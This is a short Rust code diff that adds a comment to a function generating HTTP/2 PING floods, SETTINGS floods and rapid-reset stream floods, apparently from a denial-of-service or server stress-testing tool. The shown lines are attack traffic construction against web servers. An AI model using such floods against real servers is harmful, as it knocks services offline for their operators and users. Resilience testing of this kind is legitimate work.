@@ -17,6 +17,7 @@ pub(super) async fn frame_floods(attack: &RunningAttack) {
     let bytes = |round: u32| match flood {
         0 => frame(kind::PING, 0, 0, &[7; 8]).repeat(64),
         1 => frame(kind::SETTINGS, 0, 0, &[]).repeat(64),
+        // 64 streams a round. The ids of a client's streams are odd and increase.
         2 => (0..64)
             .flat_map(|n| rapid_reset(2 * (64 * round + n) + 1, &head))
             .collect(),
